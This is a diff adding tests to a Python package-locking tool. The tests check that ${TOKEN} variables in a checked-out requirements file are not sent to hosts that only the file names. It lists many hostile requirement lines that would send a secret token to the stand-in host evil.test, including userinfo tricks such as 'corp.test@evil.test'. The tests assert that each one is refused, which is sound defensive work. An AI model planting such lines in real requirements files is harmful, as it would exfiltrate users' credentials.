@@ -550,6 +550,61 @@ class Refusals(World):
         self.lock_with("-i", self.index.url, "-f", f"{self.private.base}/links", "--refresh", code=4, says="log in")
 
 
+class Variables(World):
+    """${NAME} in a file that a checkout brings along is not sent to hosts that only such a file names."""
+
+    def setUp(self):
+        super().setUp()
+        self.corp, self.evil = self.secure("corp.test"), self.secure("evil.test")
+        self.settings["TOKEN"] = SECRET
+
+    def test_refused(self):
+        name = wheel("demo", "1.0").filename
+        for line in ("--index-url https://evil.test/${TOKEN}/simple", "-i https://x:${TOKEN}@evil.test/simple",
+                     "--extra-index-url=https://${TOKEN}.evil.test/simple", "-f https://evil.test/?${TOKEN}",
+                     f"demo @ https://evil.test/${{TOKEN}}/{name}", "demo @ git+https://${TOKEN}@evil.test/r.git",
+                     "-e git+ssh://git@evil.test/${TOKEN}.git#egg=demo", "-r https://evil.test/${TOKEN}.txt",
+                     "-c https://evil.test/${TOKEN}.txt", "https://evil.test/${TOKEN}/demo-1.0-py3-none-any.whl",
+                     "demo @ https://corp.test/x.whl --config-settings=a=https://evil.test/${TOKEN}",
+                     "-i https://corp.test@evil.test/${TOKEN}", "-i https://corp.test\\@evil.test/${TOKEN}"):
+            with self.subTest(line):
+                self.write("r.in", f"demo\n{line}\n")
+                result = self.lock_with("--extra-index-url", self.corp.url, code=3, says="a host that only this file names")
+                self.assertIn("r.in:2:", result.err)
+        for line in ("x${TOKEN}", "${TOKEN}==1.0", "a-${TOKEN} @ https://corp.test/x.whl", "${TOKEN}[x]"):
+            with self.subTest(line):
+                self.write("r.in", f"{line}\n")
+                self.lock_with("-i", self.corp.url, code=3, says="in the name of a package")
+        self.write("pinbake.toml", 'requirements = ["r.in"]\nextra-index-url = ["https://evil.test/simple"]\n')
+        self.write("r.in", "-i https://evil.test/${TOKEN}\ndemo\n")
+        self.lock_with("--json", command=("lock",), code=3)
+        self.assert_nothing_sent(self.corp, self.evil)
+        self.assertEqual(self.evil.paths(), [])
+
+    def test_to_hosts_that_the_user_names(self):
+        self.corp.users["/"] = f"ci:{SECRET}"
+        self.write("r.in", "--index-url https://ci:${TOKEN}@corp.test/simple\ndemo\n")
+        self.lock_with(code=3)
+        for args, settings in ((["--password-host", "corp.test"], {}), ([], {"PINBAKE_PASSWORD_HOST": "evil.test corp.test:443"}),
+                               ([], {"PIP_EXTRA_INDEX_URL": "https://corp.test/none/"})):
+            self.lock_with("--refresh", *args, **settings)
+        self.assert_got(self.corp)
+
+    def test_what_stays_here(self):
+        self.index.add(wheel("demo", "1.0"))
+        self.settings.update(TOKEN="1.0", FOLDER=str(self.work), PLACE=self.index.url.partition("://")[2])
+        self.write("more.in", "demo==${TOKEN}\n")
+        self.write("r.in", "-r ${FOLDER}/more.in\n--index-url http://${PLACE}\n-f file://${FOLDER}\n")
+        self.lock_with()
+
+    def test_of_a_password(self):
+        self.write("r.in", "-i https://evil.test/simple\ndemo\n")
+        self.lock_with(**LOGIN, says="is not for")
+        self.assert_nothing_sent(self.evil)
+        self.lock_with("--refresh", "--password-host", "evil.test", **LOGIN)
+        self.assert_got(self.evil)
+
+
 class Git(World):
     """git speaks to whom we would speak to, with the passwords that we would send."""
 
@@ -726,7 +781,7 @@ class Legitimate(World):
         self.lock_with("-i", public.url, "--extra-index-url", f"https://ci:{SECRET}@corp.test/simple")
         self.assertIn("https://corp.test/simple", self.read("pylock.toml"))
         self.write("r.in", f"--extra-index-url https://ci:${{TOKEN}}@corp.test/simple\ndemo\n")
-        self.lock_with("-i", public.url, "--refresh", TOKEN=SECRET)
+        self.lock_with("-i", public.url, "--refresh", TOKEN=SECRET, PINBAKE_PASSWORD_HOST="corp.test")
         self.assert_got(corp)
 
     def test_mirror_with_its_own_authority(self):
